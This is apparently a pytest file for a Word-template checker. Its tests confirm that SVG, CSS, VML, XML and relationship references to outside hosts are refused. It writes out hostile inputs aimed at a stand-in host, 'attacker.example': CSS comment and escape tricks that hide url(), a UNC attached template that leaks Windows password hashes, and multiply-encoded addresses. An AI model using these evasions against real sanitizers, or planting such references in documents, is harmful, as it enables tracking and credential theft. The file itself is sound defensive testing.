"""What a funder is told about an outside reference, and how CSS is read.

Mutation testing showed the SVG refusals checked by a word or two: their
messages and excerpts could change unnoticed, an SVG ``src`` was never tried,
and the reading of CSS (comments, escapes, a quoted ``url()``) was only seen
through addresses that any reading refuses. These pin each refusal whole
(part, message, excerpt) and the CSS that must pass.
"""

from __future__ import annotations

import pytest

from service.rendering import outside_references
from service.rendering.errors import TemplateError, TemplateProblem
from service.rendering.package_limits import check_package
from tests import hostile_templates as hostile
from tests.test_outside_references import DOCUMENT, SVG_PART

ATTACKER = "http://attacker.example/p.png"


def refusals(source: bytes) -> list[TemplateProblem]:
    """Every problem check_package finds in ``source``, whole."""
    with pytest.raises(TemplateError) as caught:
        check_package(source)
    return caught.value.problems


def svg_refusals(body: str) -> list[TemplateProblem]:
    """The problems of a template carrying an SVG picture with ``body``."""
    return refusals(hostile.svg_picture(hostile.svg(body)))


# --- SVG: each refusal word for word ----------------------------------------------


def test_style_sheet_loading_a_picture_is_told_with_its_text() -> None:
    css = f"rect {{ fill: url({ATTACKER}) }}"
    assert svg_refusals(f"<style>\n  {css}\n</style>") == [
        TemplateProblem(
            message="The SVG picture's style sheet loads an outside resource.",
            part=SVG_PART,
            excerpt=css,
        )
    ]


@pytest.mark.parametrize("attribute", ["href", "src"])
def test_an_outside_address_in_the_picture_is_told_with_the_address(
    attribute: str,
) -> None:
    assert svg_refusals(f'<image {attribute}="{ATTACKER}"/>') == [
        TemplateProblem(
            message=(
                f"The SVG picture refers to an outside address in <image> ({ATTACKER}"
                "); it may refer only to its own parts (#id) and embedded pictures "
                "(data:image/png…)."
            ),
            part=SVG_PART,
            excerpt=ATTACKER,
        )
    ]


def test_style_attribute_loading_a_picture_is_told_with_the_attribute() -> None:
    style = f"fill:url({ATTACKER})"
    assert svg_refusals(f'<rect style="{style}"/>') == [
        TemplateProblem(
            message="The SVG picture loads an outside resource in <rect> style.",
            part=SVG_PART,
            excerpt=style,
        )
    ]


# --- CSS: comments and escapes are undone before reading ---------------------------


@pytest.mark.parametrize(
    "style",
    [
        f"fill:u/**/rl({ATTACKER})",  # a comment inside the function name
        f"fill:u\\2f**\\2frl({ATTACKER})",  # a comment spelled with escapes
        f"fill:u\\rl({ATTACKER})",  # a letter escaped as itself
        f"fill:\\0url({ATTACKER})",
        f"fill:\\110000image('{ATTACKER}' 1x)",  # an impossible code point first
    ],
    ids=["comment", "escaped-comment", "escaped-letter", "nul", "past-unicode"],
)
def test_hidden_url_function_is_refused(style: str) -> None:
    [problem] = svg_refusals(f'<rect style="{style}"/>')
    assert problem.message == (
        "The SVG picture loads an outside resource in <rect> style."
    )


def test_nul_escape_is_the_replacement_character_not_trimmed_away() -> None:
    # CSS reads \0 as U+FFFD; were it U+0000, trimming the address would
    # leave "#a" and let a file named "\ufffd#a" pass as a fragment.
    [problem] = svg_refusals('<rect style="fill:url(\\0#a)"/>')
    assert problem.excerpt == "fill:url(\\0#a)"


@pytest.mark.parametrize(
    "style",
    [
        "fill:url(/**/#a)",  # a comment before the fragment
        "fill:url(' #a')",  # a quoted fragment with blanks, trimmed as URLs are
        "fill:url(\\1#a)",  # an escaped control character, trimmed as a blank
        "fill:url(#a) red; stroke:url(#b)",
    ],
    ids=["comment", "quoted-blanks", "escaped-control", "two-fragments"],
)
def test_reference_to_the_pictures_own_parts_passes(style: str) -> None:
    check_package(hostile.svg_picture(hostile.svg(f'<rect style="{style}"/>')))


# --- relationships without an Id ---------------------------------------------------


def test_empty_reference_to_a_hyperlink_without_an_id_is_refused() -> None:
    # An external hyperlink with no Id is found by an empty r:embed: it may
    # still not be used as a picture.
    source = hostile.with_relationship(
        hostile.docx("placeholder"),
        hostile.DOCUMENT_RELS,
        f"{hostile.R_NS}/hyperlink",
        ATTACKER,
        external=True,
    )
    source = hostile.replace_in(source, hostile.DOCUMENT_RELS, 'Id="rId900" ', "")
    blip = f'<w:p><w:r><a:blip xmlns:a="{hostile.A_NS}" r:embed=""/></w:r></w:p>'
    assert refusals(hostile.with_body_xml(blip, source)) == [
        TemplateProblem(
            message=(
                "A blip element uses the outside address of a hyperlink (); only "
                "links may refer to it."
            ),
            part=DOCUMENT,
        )
    ]


def test_only_relationship_elements_are_hyperlinks() -> None:
    # An element of another namespace in a relationships part is no
    # relationship (Word ignores it): a picture naming its Id refers to nothing.
    foreign = (
        '<x:Relationship xmlns:x="urn:example:not-opc" Id="rId901" '
        f'Type="{hostile.R_NS}/hyperlink" Target="{ATTACKER}" TargetMode="External"/>'
    )
    source = hostile.replace_in(
        hostile.docx("placeholder"),
        hostile.DOCUMENT_RELS,
        "</Relationships>",
        foreign + "</Relationships>",
    )
    blip = f'<w:p><w:r><a:blip xmlns:a="{hostile.A_NS}" r:embed="rId901"/></w:r></w:p>'
    check_package(hostile.with_body_xml(blip, source))


def test_imported_document_with_several_parameters_is_refused() -> None:
    name = "word/afchunk.mht"
    found = refusals(hostile.alt_chunk("text/html; charset=utf-8; x=y", name))
    assert (
        TemplateProblem(
            message=outside_references.IMPORTING_RELATIONSHIPS["afchunk"], part=name
        )
        in found
    )


def test_svg_content_type_on_what_is_not_svg_is_told_so() -> None:
    picture = "word/media/image8.png"
    source = hostile.rezip(hostile.docx("Hello"), add=[(picture, b"\x1f\x8b gzip")])
    source = hostile.with_content_type(source, picture, "image/svg+xml")
    assert refusals(source) == [
        TemplateProblem(
            message="The member is declared an SVG picture but is not SVG.",
            part=picture,
        )
    ]


# --- relationships: each refusal whole ------------------------------------------------

RELS = hostile.DOCUMENT_RELS


def relationship_refusals(source: bytes) -> list[TemplateProblem]:
    """The problems ``source`` has in the body's relationships."""
    return [problem for problem in refusals(source) if problem.part == RELS]


def test_imported_document_relationship_is_told_with_its_target() -> None:
    source = hostile.relationship("aFChunk", "afchunk.mht")
    assert relationship_refusals(source) == [
        TemplateProblem(
            message=outside_references.IMPORTING_RELATIONSHIPS["afchunk"],
            part=RELS,
            excerpt="afchunk.mht",
        )
    ]


def test_unknown_target_mode_is_told_as_written() -> None:
    source = hostile.relationship("image", ATTACKER, mode="Remote")
    assert relationship_refusals(source) == [
        TemplateProblem(
            message=(
                "A relationship has TargetMode 'Remote'; Word knows only Internal "
                "and External."
            ),
            part=RELS,
            excerpt=ATTACKER,
        )
    ]


def test_attached_template_on_a_share_is_told_why() -> None:
    target = "\\\\attacker.example\\share\\t.dotm"
    [problem] = refusals(hostile.attached_template(target))
    assert problem == TemplateProblem(
        message=(
            f"The template attaches a Word template on a server or file share "
            f"({target}), which Word opens (sending the reader's Windows password "
            "hash to a share) when the document is opened. Attach Normal instead "
            "(Developer › Document Template)."
        ),
        part=hostile.SETTINGS_RELS,
        excerpt=target,
    )


@pytest.mark.parametrize(
    ("kind", "named"), [(f"{hostile.R_NS}/image", "image"), ("", "resource")]
)
def test_outside_relationship_is_told_by_its_type(kind: str, named: str) -> None:
    source = hostile.with_relationship(
        hostile.docx("Hello"), RELS, kind, ATTACKER, external=True
    )
    assert relationship_refusals(source) == [
        TemplateProblem(
            message=(
                f"The template refers to an outside {named} ({ATTACKER}) that Word "
                "would fetch when the document is opened; only hyperlinks may point "
                "outside."
            ),
            part=RELS,
            excerpt=ATTACKER,
        )
    ]


@pytest.mark.parametrize(
    ("kind", "named"), [(f"{hostile.R_NS}/image", "image"), ("", "relationship")]
)
def test_inside_relationship_pointing_outside_is_told_by_its_type(
    kind: str, named: str
) -> None:
    source = hostile.with_relationship(hostile.docx("Hello"), RELS, kind, ATTACKER)
    assert relationship_refusals(source) == [
        TemplateProblem(
            message=(
                f"A {named} marked as inside the package points outside it "
                f"({ATTACKER})."
            ),
            part=RELS,
            excerpt=ATTACKER,
        )
    ]


def test_outside_relationship_without_a_target_is_refused_as_empty() -> None:
    source = hostile.with_relationship(
        hostile.docx("Hello"), RELS, f"{hostile.R_NS}/image", "", external=True
    )
    source = hostile.replace_in(source, RELS, ' Target=""', "")
    assert relationship_refusals(source) == [
        TemplateProblem(
            message=(
                "The template refers to an outside image () that Word would fetch "
                "when the document is opened; only hyperlinks may point outside."
            ),
            part=RELS,
            excerpt="",
        )
    ]


# --- XML parts: each refusal whole ---------------------------------------------


def document_refusals(source: bytes) -> list[TemplateProblem]:
    """The problems ``source`` has in its main document."""
    return [problem for problem in refusals(source) if problem.part == DOCUMENT]


def test_style_sheet_instruction_is_told_with_the_instruction() -> None:
    instruction = f'<?xml-stylesheet href="{ATTACKER}"?>'
    source = hostile.svg_picture(instruction + hostile.svg(""))
    assert refusals(source) == [
        TemplateProblem(
            message=(
                "The XML links a style sheet (<?xml-stylesheet?>), which would be "
                "fetched."
            ),
            part=SVG_PART,
            excerpt=instruction,
        )
    ]


def test_xinclude_is_told_word_for_word() -> None:
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{ATTACKER}"/>'
    )
    assert document_refusals(hostile.with_body_xml(include)) == [
        TemplateProblem(
            message="The XML includes another file (XInclude).", part=DOCUMENT
        )
    ]


def test_linked_ole_object_is_told_word_for_word() -> None:
    linked = '<o:OLEObject Type="LINK" ProgID="Excel.Sheet.12" r:id="rId1"/>'
    assert document_refusals(hostile.vml_body(linked)) == [
        TemplateProblem(
            message=(
                "The template holds a linked object (OLE link), which Word updates "
                "from its file when the document is opened."
            ),
            part=DOCUMENT,
        )
    ]


def test_vml_address_is_told_with_the_attribute() -> None:
    source = hostile.vml_body(f'<v:fill o:title="a title" src="{ATTACKER}"/>')
    assert document_refusals(source) == [
        TemplateProblem(
            message=(
                f"A picture or shape (fill) refers to an outside address in its src "
                f"({ATTACKER}), which Word would fetch when the document is opened."
            ),
            part=DOCUMENT,
            excerpt=ATTACKER,
        )
    ]


def test_vml_style_loading_a_picture_is_told_with_the_style() -> None:
    style = f"width:10pt;background:url({ATTACKER})"
    source = hostile.vml_body(f'<v:shape style="{style}"/>')
    assert document_refusals(source) == [
        TemplateProblem(
            message="A shape's style (shape) loads an outside resource.",
            part=DOCUMENT,
            excerpt=style,
        )
    ]


@pytest.mark.parametrize("local", ["subDoc", "altChunk"])
def test_refused_element_is_told_once_why(local: str) -> None:
    source = hostile.with_body_xml(f'<w:{local} r:id="rId1"/>')
    assert document_refusals(source) == [
        TemplateProblem(
            message=outside_references.REFUSED_ELEMENTS[local], part=DOCUMENT
        )
    ]


# --- addresses ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "remote"),
    [
        ("'//attacker.example/s'", True),  # quotes are trimmed as URL parsers do
        ("\x01//attacker.example/s", True),  # so are control characters
        ("<//attacker.example/s>", True),
        ("s3:bucket/key", True),  # a two-letter scheme is a scheme
        ("c:bucket/key", False),  # a one-letter one is a drive
        ("%252525252F%252525252Fattacker.example", True),  # decoded five times
        ("%25252525252F%25252525252Fattacker.example", False),  # not six
    ],
)
def test_addresses_are_trimmed_and_decoded_as_far_as_promised(
    value: str, remote: bool
) -> None:
    assert outside_references.is_remote(value) is remote


@pytest.mark.parametrize(
    ("length", "shown"),
    [(80, "h" * 80), (81, "h" * 79 + "…")],
    ids=["eighty", "eighty-one"],
)
def test_long_addresses_are_cut_to_eighty_characters(length: int, shown: str) -> None:
    target = "h" * length
    source = hostile.with_relationship(
        hostile.docx("Hello"), RELS, f"{hostile.R_NS}/image", target, external=True
    )
    [problem] = relationship_refusals(source)
    assert problem.excerpt == shown
